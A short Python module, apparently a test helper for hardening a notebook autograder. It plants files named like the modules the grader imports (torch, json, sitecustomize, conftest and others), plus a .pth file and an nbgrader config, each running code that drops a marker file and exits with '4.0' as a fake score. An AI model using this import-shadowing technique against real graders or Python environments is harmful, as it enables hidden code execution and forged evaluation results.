"""Modules beside the notebook under the names of those that the grader imports."""

CODE = "import pathlib; pathlib.Path('/tmp/attack-module').touch(); raise SystemExit('4.0')"
NAMES = ("torch", "utils", "autograder", "nbformat", "json", "sitecustomize", "conftest", "checks")


def attack(folder, notebook, course):
    (folder / "01_tiny.ipynb").write_bytes(notebook)
    for name in NAMES:
        (folder / f"{name}.py").write_text(CODE)
        (folder / f"{name}_").mkdir()
        (folder / f"{name}_" / "__init__.py").write_text(CODE)
    (folder / "nbgrader_config.py").write_text(CODE)
    (folder / "pyproject.toml").write_text("[tool.pytest]")
    (folder / "start.pth").write_text(CODE)
